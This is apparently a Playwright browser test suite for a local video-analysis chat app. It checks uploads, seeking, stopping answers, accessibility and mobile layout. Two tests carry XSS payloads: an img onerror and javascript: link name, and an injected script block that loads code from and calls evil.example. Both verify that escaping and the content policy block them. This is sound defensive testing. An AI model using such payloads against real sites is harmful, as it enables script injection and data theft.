"""The app in Chromium: what only a browser can show."""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT, SAMPLE

from assistant.core.timeline import Answer
from assistant.store import Library

SECONDS = 120  # a busy machine of two cores is slow; what must be quick is measured on its own
FLAGS = ("--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update")
HOSTILE = '<img src=x onerror="window.hacked=1">[x](javascript:alert(1)) :smile: **b**.mp4'
BARS = ".track[data-kind=actions] .bar"

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings("ignore::ResourceWarning")]


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if program is None:
        if os.environ.get("CI"):
            pytest.fail("there is no Chromium here, and CI promises one")
        pytest.skip("there is no Chromium on this machine")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=program, args=[*FLAGS, "--disable-sync"])
        yield browser
        browser.close()


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


class Server:
    """One running app."""

    def __init__(self, arguments: list[str], port: int, home: Path) -> None:
        self.address = f"http://127.0.0.1:{port}"
        self.home = home
        self.process = subprocess.Popen([sys.executable, *arguments], cwd=ROOT, stdout=subprocess.PIPE, text=True)
        deadline = time.monotonic() + SECONDS
        while True:
            try:
                with urllib.request.urlopen(f"{self.address}/_stcore/health", timeout=5):
                    return
            except urllib.error.HTTPError as error:  # it is there, and asks for its token
                error.close()
                return
            except OSError:
                if time.monotonic() > deadline or self.process.poll() is not None:
                    raise
                time.sleep(0.2)

    def resident_bytes(self) -> int:
        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS"):
                return int(line.split()[1]) * 1024
        raise AssertionError("no VmRSS")

    def close(self) -> None:
        self.process.terminate()
        try:
            self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()
        if self.process.stdout:
            self.process.stdout.close()


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The real app with the demo pack, or with tiny random models of the same kinds where it is not trained yet."""
    from packs_at_hand import tiny_pack

    from assistant.config import Settings
    from assistant.models.registry import named

    home, port = tmp_path_factory.mktemp("app"), free_port()
    pack = "demo" if not named(Settings(home=home), "demo").missing() else str(tiny_pack(tmp_path_factory))
    arguments = ["-m", "assistant.ui.serve", "--no-token", "--port", str(port), "--home", str(home), "--pack", pack]
    server = Server(arguments, port, home)
    yield server
    server.close()


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The app over a timeline made by hand, whose answers are slow."""
    home, port = tmp_path_factory.mktemp("desk"), free_port()
    server = Server([str(ROOT / "tests" / "desk_server.py"), str(home), str(port), HOSTILE], port, home)
    assert server.process.stdout is not None
    server.sha256 = server.process.stdout.readline().strip()
    yield server
    server.close()


@pytest.fixture
def page(chromium: Any) -> Iterator[Any]:
    context = chromium.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(SECONDS * 1000)
    opened = context.new_page()
    opened.errors = []
    opened.refused = []
    opened.on("pageerror", lambda error: opened.errors.append(str(error)))
    opened.on("console", lambda said: opened.refused.append(said.text) if "Security Policy" in said.text else None)
    yield opened
    assert opened.errors == []
    assert opened.refused == [], "the policy refuses something that the app needs"
    context.close()


def watch(page: Any, server: Server) -> None:
    page.goto(f"{server.address}/watch?video={server.sha256}")
    page.wait_for_selector(BARS)
    page.locator("[data-testid=stChatInputTextArea]:not([disabled])").wait_for()
    video(page, "v => v.readyState >= 1")


def video(page: Any, expression: str) -> Any:
    """The expression of the page's video element ``v``."""
    return page.locator("video").evaluate(expression)


def until(condition: Callable[[], Any], seconds: float = SECONDS) -> Any:
    deadline = time.monotonic() + seconds
    while not (value := condition()):
        assert time.monotonic() < deadline, "this took too long"
        time.sleep(0.1)
    return value


def upload(page: Any, server: Server, path: Path) -> None:
    page.goto(server.address)
    page.locator("input[type=file]").set_input_files(str(path))


def ask(page: Any, question: str) -> None:
    field = page.get_by_test_id("stChatInputTextArea")
    field.fill(question)
    field.press("Enter")


# --- the real way through --------------------------------------------------------------------------------------------


def test_a_video_goes_in_and_an_answer_points_at_its_moment(page, app):
    upload(page, app, SAMPLE)
    page.wait_for_selector(BARS)
    page.locator("[data-testid=stChatInputTextArea]:not([disabled])").wait_for()
    ask(page, "What happens in this video?")
    chip = page.locator("[data-testid=stChatMessage] a[href^='#t=']").last
    chip.wait_for()
    until(lambda: page.locator("[class*='st-key-tools-']").count())
    wanted = float(chip.get_attribute("href").split("t=")[1].split("&")[0])
    chip.click()
    assert until(lambda: abs(video(page, "v => v.currentTime") - wanted) < 0.1, 10)
    page.get_by_role("button", name="Why?").click()
    page.get_by_role("heading", name="Why “").wait_for()
    page.locator(".why .text").wait_for()


def test_an_analysis_goes_on_over_a_reload_and_can_be_stopped_and_resumed(page, app, media):
    upload(page, app, media / "long" / "collage_dev.mp4")
    page.get_by_role("button", name="Cancel").first.wait_for()
    page.wait_for_url("**/watch?video=*")
    page.locator(".status progress").wait_for()
    page.reload()
    page.locator(".status progress").wait_for()
    page.locator(".status").get_by_role("button", name="Cancel").click()
    page.locator(".status").get_by_role("button", name="Go on").click()
    page.locator(".status progress").wait_for()
    page.locator(".status").get_by_role("button", name="Cancel").click()
    page.locator(".status").get_by_role("button", name="Go on").wait_for()


def test_the_sample_is_one_press_away(page, app):
    page.goto(app.address)
    page.get_by_role("button", name="Try the sample video").click()
    page.wait_for_url("**/watch?video=*")
    page.wait_for_selector(BARS)


def test_a_file_that_is_no_video_is_refused_with_a_sentence(page, app, tmp_path):
    lie = tmp_path / "holiday.mp4"
    lie.write_text("<html>not a film</html>" * 500)
    before = set((app.home / "uploads").iterdir())
    upload(page, app, lie)
    page.get_by_text(
        "This file is a web page, not a video; the download went wrong; download the video itself."
    ).wait_for()
    assert set((app.home / "uploads").iterdir()) == before


def test_a_damaged_file_is_told_in_one_line_and_leaves_no_entry(page, app, media):
    upload(page, app, media / "odd" / "truncated_no_moov.mp4")
    page.locator(".drop .flag").wait_for()
    said = page.locator(".drop .flag").inner_text()
    assert "truncated_no_moov.mp4" in said
    assert "Traceback" not in said
    page.locator(".shelf .title", has_text="truncated_no_moov").first.wait_for(state="detached")


def test_an_upload_of_500_mb_leaves_the_memory_alone(page, app, tmp_path):
    big = tmp_path / "big.mp4"
    with big.open("wb") as handle:
        handle.write(b"\x00\x00\x00\x20ftypisom" + bytes(20) + b"\x20\x00\x00\x00mdat")
        handle.truncate(500 * 1024**2)
    page.goto(app.address)
    page.wait_for_selector("input[type=file]", state="attached")
    before, most = app.resident_bytes(), 0
    page.locator("input[type=file]").set_input_files(str(big))
    while not page.locator(".drop .flag").count():
        most = max(most, app.resident_bytes())
        time.sleep(0.05)
    assert most - before < 100 * 1024**2


def test_a_file_that_no_browser_plays_is_played_through_its_proxy(page, app, media):
    upload(page, app, media / "actions" / "asl_yes.mkv")
    page.wait_for_url("**/watch?video=*")
    until(lambda: page.locator("video").count() and video(page, "v => v.readyState >= 2"))
    assert video(page, "v => v.videoWidth") > 0


# --- the desk over a known timeline ----------------------------------------------------------------------------------


def test_a_click_on_a_bar_seeks_at_once_and_runs_nothing(page, desk):
    watch(page, desk)
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    page.on("websocket", lambda socket: seen.append(socket.url))
    took = (
        page.locator(BARS)
        .nth(2)
        .evaluate(
            """bar => { const video = bar.getRootNode().querySelector('video'); const start = performance.now();
        bar.click(); return [video.currentTime, performance.now() - start]; }"""
        )
    )
    assert took[0] == pytest.approx(9.0, abs=0.05)
    assert took[1] < 100
    page.locator(".card h3", has_text="Segment 3").wait_for()
    assert [
        url for url in seen if "/api/picture/" not in url and "/api/video/" not in url and "/shelf" not in url
    ] == []


def test_bars_say_what_they_are_and_can_be_walked_with_the_keys(page, desk):
    watch(page, desk)
    first = page.locator(BARS).first
    assert first.get_attribute("aria-label") == "moving left, 0:00 to 0:05, 83 %"
    first.focus()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("Enter")
    until(lambda: abs(video(page, "v => v.currentTime") - 5.0) < 0.05, 10)


def test_the_keys_steer_the_player(page, desk):
    watch(page, desk)
    page.locator("h3").first.click()
    page.keyboard.press("ArrowRight")
    until(lambda: abs(video(page, "v => v.currentTime") - 5.0) < 0.05, 10)
    page.keyboard.press("]")
    until(lambda: abs(video(page, "v => v.currentTime") - 9.0) < 0.05, 10)
    page.keyboard.press("Home")
    until(lambda: video(page, "v => v.currentTime") == 0, 10)
    page.keyboard.press(" ")
    until(lambda: not video(page, "v => v.paused"), 10)
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.dataset.testid") == "stChatInputTextArea"


def test_stop_in_the_middle_of_an_answer_keeps_what_was_said(page, desk):
    watch(page, desk)
    ask(page, "Tell me a long story")
    page.locator("[data-testid=stChatMessage] a[href^='#t=']").first.wait_for()
    # A citation works while the answer still streams.
    page.locator("[data-testid=stChatMessage] a[href^='#t=7.000']").first.evaluate("link => link.click()")
    until(lambda: abs(video(page, "v => v.currentTime") - 7.0) < 0.1, 10)
    page.get_by_test_id("stChatInputStopButton").click()
    page.get_by_text("Stopped by you.").wait_for()
    page.reload()
    page.get_by_text("Stopped by you. What stands here was not checked").wait_for()
    assert "First a red circle is moving left" in page.locator("[data-testid=stChatMessage]").nth(1).inner_text()


STOP_AFTER = """milliseconds => {
    window.pressed = false;
    const find = () => document.querySelector('[data-testid=stChatInputStopButton]');
    const press = () => { if (find()) find().click(); window.pressed = true; };
    const look = () => find() ? setTimeout(press, milliseconds) : requestAnimationFrame(look);
    look();
}"""


def talk_for_long(library, desk, turns, sentences):
    """A conversation of so many turns, each with an answer of so many sentences."""
    conversation = library.chats.start(desk.sha256)
    for number in range(turns):
        answer = Answer(f"Question {number}?", "A red circle moves left [S1]. " * sentences)
        library.chats.append_turn(conversation, answer.question, answer)
    return conversation


@pytest.mark.parametrize("stops", [6, pytest.param(100, marks=pytest.mark.soak)])
def test_stop_never_costs_the_page(page, desk, stops):
    """At every moment from the first sight of the button on, in a long conversation."""
    with Library(desk.home) as library:
        conversation = talk_for_long(library, desk, turns=60, sentences=5)
        watch(page, desk)
        for number in range(stops):
            page.evaluate(STOP_AFTER, 1200 * number / stops)
            ask(page, "What happens?")
            until(lambda: page.evaluate("window.pressed"))
            page.get_by_test_id("stChatInputStopButton").wait_for(state="detached")
            assert page.locator(BARS).count() == 5
            until(lambda: page.locator("[data-testid=stChatMessage]").count())
            until(lambda wanted=61 + number: len(library.chats.turns(conversation)) == wanted)
        kept = library.chats.turns(conversation)[60:]
        library.chats.delete(conversation)
    assert any(turn.partial for turn in kept)
    page.get_by_role("button", name="earlier questions").wait_for()


def test_an_answer_that_was_not_asked_for_in_the_field_can_be_stopped_too(page, desk):
    with Library(desk.home) as library:
        conversation = library.chats.start(desk.sha256)
        library.chats.append_turn(conversation, "Tell me a long story", Answer("Tell me a long story", "Once."))
        watch(page, desk)
        page.get_by_role("button", name="Answer again", exact=True).click()
        page.get_by_role("link", name="Stop").click()
        page.get_by_text("Stopped by you.").wait_for()
        library.chats.delete(conversation)


def test_a_long_text_pasted_into_the_field_is_there(page, desk):
    watch(page, desk)
    field = page.get_by_test_id("stChatInputTextArea")
    field.focus()
    page.keyboard.insert_text("so " * 2000)
    assert len(field.input_value()) == 6000
    field.press("Enter")
    page.get_by_text("up to 4,000 can be asked").wait_for()


def test_a_name_from_outside_is_text_everywhere(page, desk):
    watch(page, desk)
    assert HOSTILE in page.locator("h3").first.inner_text().replace("\u2060", "")
    assert page.evaluate("window.hacked === undefined")
    assert page.locator("a[href^='javascript']").count() == 0
    page.goto(desk.address)
    page.locator(".shelf .title").first.wait_for()
    assert HOSTILE in page.locator(".shelf .title").first.inner_text()
    assert page.evaluate("window.hacked === undefined")


def test_nothing_is_asked_of_any_other_machine(page, desk):
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    watch(page, desk)
    page.goto(desk.address)
    page.locator(".shelf .title").first.wait_for()
    assert [url for url in asked if not url.startswith((desk.address, "data:", "blob:"))] == []


def test_every_page_works_under_the_policy(page, desk):
    for path in ("", "watch", "search", "summaries", "labels", "models", "settings"):
        page.goto(f"{desk.address}/{path}?video={desk.sha256}")
        page.locator(".shelf .title").first.wait_for()
        page.locator("h1, h3").first.wait_for()
    assert page.refused == []


INJECTED = """() => {
    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked=1'><svg onload='hacked=1'>");
    document.body.insertAdjacentHTML("beforeend", "<a id=lure href='javascript:window.hacked=1'>x</a>");
    document.getElementById("lure").click();
    add("script", { textContent: "window.hacked = 1" });
    add("script", { src: "https://evil.example/a.js" });
    add("script", { src: "data:text/javascript,window.hacked=1" });
    add("iframe", { srcdoc: "<script>parent.hacked = 1</script>" });
    add("object", { data: "https://evil.example/a" });
    add("base", { href: "https://evil.example/" });
    add("img", { src: "https://evil.example/a.png" });
    fetch("https://evil.example/").catch(() => {});
    setTimeout("window.hacked = 1");
}"""


def test_markup_that_got_in_after_all_runs_no_script_and_reaches_nobody(page, desk):
    watch(page, desk)
    left: list[str] = []
    page.context.on("requestfinished", lambda request: left.append(request.url))
    page.evaluate(INJECTED)
    page.wait_for_timeout(1500)
    assert page.evaluate("window.hacked === undefined")
    assert page.evaluate("document.baseURI").startswith(desk.address)
    assert [url for url in left if "evil.example" in url] == []
    assert len(page.refused) >= 8
    page.refused.clear()
    page.errors.clear()


def test_a_phone_shows_one_lane_and_never_scrolls_sideways(chromium, desk):
    context = chromium.new_context(viewport={"width": 390, "height": 844}, color_scheme="dark")
    context.set_default_timeout(SECONDS * 1000)
    page = context.new_page()
    watch(page, desk)
    assert page.locator(".track:visible").count() == 1
    page.get_by_role("button", name="Speech", exact=True).click()
    assert page.locator(".track[data-kind=speech]:visible").count() == 1
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    background = page.evaluate("getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor")
    assert background == "rgb(20, 23, 29)"
    page.mouse.move(200, 700)
    page.mouse.wheel(0, 3000)
    page.wait_for_timeout(600)
    assert page.locator("video").bounding_box()["y"] >= -1  # the player stays in sight
    context.close()


def test_on_a_phone_the_question_is_at_hand_however_long_the_conversation(chromium, desk):
    context = chromium.new_context(viewport={"width": 390, "height": 844})
    context.set_default_timeout(SECONDS * 1000)
    page = context.new_page()
    with Library(desk.home) as library:
        conversation = talk_for_long(library, desk, turns=30, sentences=20)
        watch(page, desk)
        box = page.get_by_test_id("stChatInput").bounding_box()
        assert box["y"] + box["height"] <= 844
        assert box["x"] >= 0
        assert box["width"] > 300
        ask(page, "Does a dog appear?")
        page.get_by_text("That is not in this video.").last.wait_for()
        until(lambda: 0 < page.get_by_text("Does a dog appear?").last.bounding_box()["y"] < 844)
        library.chats.delete(conversation)
    context.close()


def test_a_correction_made_on_the_card_is_what_the_answer_and_the_search_say(page, desk):
    watch(page, desk)
    page.locator(BARS).nth(1).click()
    page.get_by_role("button", name="Correct it").click()
    page.get_by_label("What to correct").select_option("scene")
    page.get_by_label("The right label").fill("a polar bear")
    page.get_by_role("button", name="Keep", exact=True).click()
    page.locator(".fixed", has_text="You say: a polar bear").wait_for()
    ask(page, "What happens?")
    page.get_by_text("Rests on your correction of segment 2").wait_for()
    assert "a polar bear is turning" in page.locator("[data-testid=stChatMessage]").last.inner_text()
    page.goto(f"{desk.address}/search")
    field = page.get_by_role("textbox", name="Words")
    field.fill("polar bear")
    field.press("Enter")
    page.get_by_text("1 moment", exact=True).wait_for()
    watch(page, desk)
    page.locator(BARS).nth(1).click()
    page.locator(".fixed").get_by_role("button", name="Undo").click()
    page.locator(".fixed").wait_for(state="detached")


def test_the_library_and_the_page_agree_how_far_an_analysis_is(page, desk):
    def running(route, place):
        document = json.loads(route.fetch().text())
        job = {"id": "a" * 32, "state": "running", "says": "Visual analysis", "what": "", "remedy": "", "segments": 1}
        job |= {"sha256": desk.sha256, "name": "a.mp4", "seconds_left": None, "fraction": 0.32 if place else 0.09}
        if place:
            document["items"][0]["job"] = job
        else:
            document |= {"job": job, "finished": False}
        route.fulfill(json=document)

    page.route("**/api/shelf", lambda route: running(route, 1))
    page.route("**/api/desk/*", lambda route: running(route, 0))
    page.goto(f"{desk.address}/watch?video={desk.sha256}")
    page.locator(".shelf .state", has_text="32 %").wait_for()
    page.locator(".status", has_text="32 %").wait_for()
    page.unroute_all(behavior="ignoreErrors")


def test_the_page_keeps_what_was_chosen_and_where_one_was(page, desk):
    watch(page, desk)
    ask(page, "Does a dog appear?")
    page.get_by_role("button", name="Answer again", exact=True).first.wait_for()
    page.get_by_role("button", name="Edit the question", exact=True).first.wait_for()
    until(lambda: page.evaluate("document.activeElement.dataset.testid") == "stChatInputTextArea", 10)
    assert page.get_by_role("button", name=re.compile("refresh icon|more_horiz")).count() == 0
    page.get_by_role("button", name="Conversations and who answers").click()
    page.get_by_role("radio", name="From the timeline").click()
    page.get_by_text("Composed from the timeline").wait_for()
    page.reload()
    page.get_by_role("button", name="Conversations and who answers").click()
    until(lambda: page.get_by_role("radio", name="From the timeline").is_checked())


def test_the_question_before_a_video_is_removed_stands_above_the_menu(page, desk):
    watch(page, desk)
    page.get_by_role("button", name="This video").click()
    page.get_by_role("button", name="Remove from the library").click()
    page.get_by_role("button", name="Keep it").click()
    page.get_by_role("dialog").wait_for(state="detached")
    page.get_by_role("button", name="Take it with you").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Markdown").click()
    assert download.value.suggested_filename.endswith(".md")


def test_a_video_chosen_for_its_summaries_opens_them(page, desk):
    page.goto(f"{desk.address}/summaries")
    page.locator(".shelf:not(.small) .open").first.click()
    page.wait_for_url("**/summaries?video=*")
    page.get_by_role("button", name="Write the summary").wait_for()


def test_the_transcript_follows_seeks_and_can_be_searched(page, desk):
    watch(page, desk)
    page.get_by_role("tab", name="Transcript").click()
    assert page.locator(".line").count() == 4
    page.locator(".line", has_text="seven, friday").click()
    until(lambda: abs(video(page, "v => v.currentTime") - 15.25) < 0.1, 10)
    assert "seven, friday" in page.locator(".line[aria-current]").inner_text()
    field = page.get_by_label("Find in what is said")
    field.fill("CIRCLE")
    page.get_by_text("2 found").wait_for()
    assert page.locator(".line mark").all_inner_texts() == ["circle", "circle"]
    field.press("Enter")
    field.press("Enter")
    page.get_by_text("2 of 2").wait_for()
    until(lambda: abs(video(page, "v => v.currentTime") - 20.25) < 0.1, 10)
    field.fill("zebra")
    page.get_by_text("Not found").wait_for()
    page.get_by_role("tab", name="Segment").click()
    page.locator(".card h3", has_text="Segment 5").wait_for()


def test_two_hours_are_few_bars_and_open_quickly(page, desk):
    def long(route):
        document = json.loads(route.fetch().text())
        one = document["segments"][0]

        def label(number):
            return [{"label": f"action {number // 32 % 7}", "score": 0.5 + number % 8 / 20, "colour": "#888888"}]

        document["segments"] = [
            {**one, "id": n + 1, "start": 3.0 * n, "end": 3.0 * n + 3, "speech": [], "spoken": [], "actions": label(n)}
            for n in range(2400)
        ]
        document |= {"duration": 7200.0, "shots": [], "captions": []}
        route.fulfill(json=document)

    page.route("**/api/desk/*", long)
    watch(page, desk)
    first = page.locator(BARS).first
    assert first.get_attribute("aria-label") == "action 0, 0:00 to 1:36, 50 % to 85 %"
    assert page.locator(".bar").count() <= 500
    assert first.inner_text() == "", "no label where none fits"
    look = """async () => {
        const view = document.querySelector('[data-testid="stApp"]');
        const find = (node) => node.querySelector('.viewport') || [...node.querySelectorAll('*')].map(
            (one) => one.shadowRoot && find(one.shadowRoot)).find(Boolean);
        const lanes = find(view), spent = [];
        const root = lanes.getRootNode();
        for (let step = 0; step < 12; step += 1) root.querySelector('[aria-label="Look closer"]').click();
        for (let step = 0; step < 30; step += 1) {
            lanes.scrollLeft += 40;
            const start = performance.now();
            await new Promise(requestAnimationFrame);
            await new Promise(requestAnimationFrame);
            spent.push(performance.now() - start);
        }
        return [spent.sort((a, b) => a - b)[15] / 2, root.querySelectorAll('.bar').length];
    }"""
    frame_milliseconds, bars = page.evaluate(look)
    assert bars < 100, "only what is in sight is drawn"
    assert frame_milliseconds < 100
    page.locator(BARS).first.click(position={"x": 2, "y": 10})
    page.unroute_all(behavior="ignoreErrors")
